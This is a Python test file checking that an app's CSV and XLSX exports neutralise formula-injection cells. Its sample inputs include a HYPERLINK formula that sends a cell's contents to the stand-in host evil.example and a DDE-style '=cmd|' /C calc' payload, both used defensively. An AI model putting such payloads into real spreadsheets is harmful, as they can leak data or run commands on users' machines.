"""Every CSV and XLSX the app writes goes through io.spreadsheets (OWASP, "CSV Injection")."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pytest

from session_rater.io.spreadsheets import csv_text, safe_cell, unguard, write_csv_rows, xlsx_bytes

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text_with_a_leading_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert unguard(safe_cell(text)) == text


@pytest.mark.parametrize("value", ["Helen Price", "", "a=b", 3, -1, -0.5, 2.0, None, True])
def test_other_cells_and_numbers_are_left_as_they_are(value: object) -> None:
    assert safe_cell(value) == value if value == value else True


def test_csv_text_guards_every_text_cell_and_heading() -> None:
    frame = pd.DataFrame({"=who": ["=cmd|' /C calc'!A0", "Ann"], "score": [-1, 2]})
    rows = csv_text(frame).splitlines()
    assert rows[0] == "'=who,score"
    assert rows[1] == "'=cmd|' /C calc'!A0,-1" and rows[2] == "Ann,2"


def test_csv_rows_written_by_the_export_are_guarded() -> None:
    out = io.StringIO()
    assert write_csv_rows(out, ["name", "score"], [{"name": "@SUM(A1)", "score": -1}]) == 1
    assert out.getvalue().splitlines() == ["name,score", "'@SUM(A1),-1"]


def test_xlsx_text_cells_are_text_never_formulas() -> None:
    data = xlsx_bytes({"Sheet": pd.DataFrame({"name": HOSTILE, "n": range(len(HOSTILE))})})
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Sheet"]
    for row, text in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row=row, column=1)
        assert cell.data_type == "s" and cell.value == "'" + text.replace("\r", "\n")  # XML reads CR as LF
        assert sheet.cell(row=row, column=2).value == row - 2
